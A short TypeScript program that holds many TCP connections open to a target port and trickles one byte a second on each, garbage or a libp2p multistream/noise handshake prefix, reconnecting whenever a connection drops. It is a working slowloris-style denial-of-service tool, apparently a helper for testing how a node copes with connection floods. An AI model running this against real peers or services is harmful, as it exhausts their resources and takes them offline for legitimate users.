// A program of its own: holds many connections to a port open, and sends a byte a second on each, garbage or the
// beginning of what an honest peer would say. What is hung up is made again. Says so once, and runs until killed.
import { writeSync } from "node:fs";
import { connect, type Socket } from "node:net";

const [host = "", port = "", count = ""] = process.argv.slice(2);
const beginning = Buffer.from("\x13/multistream/1.0.0\n\x07/noise\n", "latin1");
let tried = 0;

function hold(index: number): void {
  const socket: Socket = connect({ host, port: Number(port) });
  let sent = 0;
  tried += 1;
  if (tried === Number(count)) writeSync(1, "held\n");
  const trickle = setInterval(() => {
    socket.write(index % 2 === 0 ? Buffer.of(index % 256) : beginning.subarray(sent, sent + 1));
    sent += 1;
  }, 1_000);
  socket.on("error", () => undefined);
  socket.resume();
  socket.on("close", () => {
    clearInterval(trickle);
    // At most so often that the one who floods does not wear itself out.
    setTimeout(() => hold(index), 50);
  });
}

for (let index = 0; index < Number(count); index += 1) hold(index);
